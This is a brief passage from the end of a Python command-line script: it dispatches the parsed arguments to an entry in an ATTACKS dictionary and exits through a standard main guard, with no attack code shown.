    args = parser.parse_args()
    ATTACKS[args.attack](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
